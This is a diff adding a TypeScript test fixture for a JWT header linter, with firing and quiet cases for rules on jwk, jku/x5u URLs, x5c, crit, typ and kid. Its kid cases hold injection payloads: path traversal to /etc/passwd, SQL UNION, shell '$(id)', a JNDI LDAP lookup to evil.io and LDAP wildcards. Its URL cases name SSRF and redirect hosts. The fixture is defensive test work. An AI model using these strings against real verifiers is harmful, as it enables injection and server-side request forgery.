@@ -1,0 +1,187 @@
+import { bytes, claims, header, jwe, jws, NOW, soundClaims } from '../tokens.ts';
+import type { CasesByRule } from '../ruleCases.ts';
+
+const jwk = { kty: 'EC', crv: 'P-256', x: 'x', y: 'y' };
+const jwkText = JSON.stringify(jwk);
+const privateJwk = { ...jwk, d: 'secret' };
+const proof = { htm: 'GET', htu: 'https://api.corp.io/orders', jti: 'j1', iat: NOW };
+const thumbprint = 'urn:ietf:params:oauth:jwk-thumbprint:';
+const kid = (text: string) => ({ token: header({ kid: text }), at: { header: `"kid":${JSON.stringify(text)}` } });
+
+export const headerCases: CasesByRule = {
+  'header-jwk': {
+    fires: [
+      { token: header({ jwk }), at: { header: `"jwk":${jwkText}` } },
+      { token: claims(proof, { jwk, typ: 'JWT' }), at: { header: `"jwk":${jwkText}` } },
+    ],
+    quiet: [
+      { token: claims(proof, { jwk, typ: 'dpop+jwt' }) },
+      { token: header({ jwk, url: 'https://acme.corp.io/new-account', nonce: 'n' }) },
+      { token: header({ kid: 'jwk' }) },
+    ],
+  },
+  'private-key-in-header': {
+    fires: [
+      { token: header({ jwk: privateJwk }), at: { header: '"d":"secret"' } },
+      { token: claims({ cnf: { jwk: privateJwk } }), at: { payload: '"d":"secret"' } },
+      { token: header({ jwk: { kty: 'oct', k: 'abc' } }), at: { header: '"k":"abc"' } },
+    ],
+    quiet: [{ token: header({ jwk }) }, { token: claims({ cnf: { jwk } }) }, { token: claims({ d: 'x' }) }],
+  },
+  'header-url-key': {
+    fires: [
+      { token: header({ jku: 'https://login.corp.io/keys' }), at: { header: '"jku":"https://login.corp.io/keys"' } },
+      {
+        token: header({ jku: 'https://login.corp.io/k', x5u: 'https://login.corp.io/c' }),
+        at: [{ header: '"jku":"https://login.corp.io/k"' }, { header: '"x5u":"https://login.corp.io/c"' }],
+      },
+    ],
+    quiet: [{ token: claims({ jku: 'https://login.corp.io/keys' }) }, { token: header({ x5t: 'abc' }) }],
+  },
+  'header-url-unsafe': {
+    fires: [
+      {
+        token: header({ jku: 'http://login.corp.io/keys' }),
+        at: { header: '"jku":"http://login.corp.io/keys"' },
+        severity: 'error',
+      },
+      {
+        token: header({ jku: 'https://169.254.169.254/keys' }),
+        at: { header: '"jku":"https://169.254.169.254/keys"' },
+        severity: 'error',
+      },
+      {
+        token: header({ x5u: 'https://login.corp.io@evil.io/k' }),
+        at: { header: '"x5u":"https://login.corp.io@evil.io/k"' },
+        severity: 'error',
+      },
+      {
+        token: header({ jku: 'https://login.corp.io/r?to=https://evil.io' }),
+        at: { header: '"jku":"https://login.corp.io/r?to=https://evil.io"' },
+        severity: 'error',
+      },
+      {
+        token: header({ jku: 'https://keys.corp.io/' }),
+        at: { header: '"jku":"https://keys.corp.io/"' },
+        severity: 'warning',
+      },
+      { token: header({ jku: 7 }), at: { header: '"jku":7' }, severity: 'error' },
+    ],
+    quiet: [
+      { token: header({ jku: 'https://login.corp.io/keys?v=2' }) },
+      { token: jws({ alg: 'HS256', jku: 'https://keys.corp.io/a' }, { sub: 'x' }) },
+    ],
+  },
+  'x5c-malformed': {
+    fires: [
+      { token: header({ x5c: 'MIIB' }), at: { header: '"x5c":"MIIB"' } },
+      { token: header({ x5c: [] }), at: { header: '"x5c":[]' } },
+      { token: header({ x5c: ['-----BEGIN CERTIFICATE-----'] }), at: { header: '"-----BEGIN CERTIFICATE-----"' } },
+      { token: header({ x5c: ['MIIBszCC', 'MIIB_-=='] }), at: { header: '"MIIB_-=="' } },
+    ],
+    quiet: [{ token: header({ x5c: ['MIIBszCCAVmgAwIBAgIUJw=='] }) }, { token: header({ x5t: 'MIIB' }) }],
+  },
+  'x5t-sha1': {
+    fires: [
+      { token: header({ x5t: 'abc' }), at: { header: '"x5t":"abc"' } },
+      { token: header({ x5t: '', x5c: [] }), at: { header: '"x5t":""' } },
+    ],
+    quiet: [{ token: header({ x5t: 'abc', 'x5t#S256': 'def' }) }, { token: header({ 'x5t#S256': 'def' }) }],
+  },
+  'kid-suspicious': {
+    fires: [
+      kid('../../dev/null'),
+      kid('/etc/passwd'),
+      kid('C:\\keys\\a.pem'),
+      kid('%2e%2e%2fkeys'),
+      kid("x' UNION SELECT 'secret'"),
+      kid("x'--"),
+      kid('key|/usr/bin/id'),
+      kid('$(id)'),
+      kid('a\0b'),
+      kid('${jndi:ldap://evil.io}'),
+      kid('https://evil.io/key'),
+      kid('*)(uid=*'),
+    ],
+    quiet: [
+      { token: header({ kid: 'did:example:123#key-1' }) },
+      { token: header({ kid: 'urn:key:1' }) },
+      { token: header({ kid: 'arn:aws:kms:eu-west-1:111122223333:key/abc' }) },
+      { token: header({ kid: 'projects/p/locations/l/keyRings/r/cryptoKeys/k' }) },
+      { token: header({ kid: 'NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg' }) },
+      { token: header({ kid: "O'Brien's key" }) },
+      { token: header({ kid: '/oAbCdEfGhIjKlMnOpQrStUvWxYz01+3456789ABC=' }) },
+      { token: header({ kid: 'a.b/c:d' }) },
+    ],
+  },
+  'crit-unknown': {
+    fires: [
+      { token: header({ x: 1, crit: ['x'] }), at: { header: '"x"' } },
+      { token: header({ extension: 1, b64: true, crit: ['b64', 'extension'] }), at: { header: '"extension"' } },
+    ],
+    quiet: [{ token: header({ crit: ['b64'], b64: true }) }, { token: header({ x: 1 }) }],
+  },
+  'crit-malformed': {
+    fires: [
+      { token: header({ crit: [] }), at: { header: '"crit":[]' } },
+      { token: header({ crit: 'b64', b64: true }), at: { header: '"crit":"b64"' } },
+      { token: header({ crit: ['absent'] }), at: { header: '"absent"' } },
+      { token: header({ crit: ['alg'] }), at: { header: '"alg"' } },
+      { token: header({ x: 1, crit: ['x', 'x'] }), at: { header: '"x"' } },
+      { token: header({ crit: [7] }), at: { header: '7' } },
+    ],
+    quiet: [{ token: header({ b64: true, crit: ['b64'] }) }, { token: header({ x: 1, y: 2, crit: ['x', 'y'] }) }],
+  },
+  'cty-nested-mismatch': {
+    fires: [
+      { token: header({ cty: 'JWT' }), at: { header: '"cty":"JWT"' } },
+      { token: jws({ alg: 'HS256' }, claims({})), at: { part: 1 } },
+    ],
+    quiet: [
+      { token: jws({ alg: 'HS256', cty: 'JWT' }, claims({})) },
+      { token: header({ cty: 'application/json' }) },
+      { token: jwe({ cty: 'JWT' }) },
+    ],
+  },
+  'zip-in-jws': {
+    fires: [
+      { token: header({ zip: 'DEF' }), at: { header: '"zip":"DEF"' } },
+      { token: header({ zip: 'GZIP' }), at: { header: '"zip":"GZIP"' } },
+    ],
+    quiet: [{ token: jwe({ zip: 'DEF' }) }, { token: jws({ alg: 'ES256', zip: 'DEF' }, bytes(60)) }],
+  },
+  'typ-not-explicit': {
+    fires: [
+      { token: claims({}), at: { header: '"typ":"JWT"' } },
+      { token: jws({ alg: 'HS256' }, soundClaims), at: { part: 0 } },
+    ],
+    quiet: [{ token: header({ typ: 'at+jwt' }) }, { token: jws({ alg: 'HS256' }, 'text') }],
+  },
+  'typ-mismatch': {
+    fires: [
+      { token: claims({}), at: { header: '"typ":"JWT"' }, options: { profile: { tokenType: 'at+jwt' } } },
+      {
+        token: header({ typ: 'dpop+jwt' }),
+        at: { header: '"typ":"dpop+jwt"' },
+        options: { profile: { tokenType: 'application/at+jwt' } },
+      },
+    ],
+    quiet: [
+      { token: header({ typ: 'application/AT+JWT' }), options: { profile: { tokenType: 'at+jwt' } } },
+      { token: jws({ alg: 'HS256' }, soundClaims), options: { profile: { tokenType: 'at+jwt' } } },
+    ],
+  },
+  'thumbprint-uri-invalid': {
+    fires: [
+      { token: claims({ sub: `${thumbprint}sha-256:abc` }), at: { payload: `"sub":"${thumbprint}sha-256:abc"` } },
+      {
+        token: header({ kid: `${thumbprint}md5:${'a'.repeat(43)}` }),
+        at: { header: `"kid":"${thumbprint}md5:${'a'.repeat(43)}"` },
+      },
+    ],
+    quiet: [
+      { token: claims({ sub: `${thumbprint}sha-256:${'a'.repeat(43)}` }) },
+      { token: claims({ sub: 'urn:ietf:params:oauth:other:x' }) },
+    ],
+  },
+};
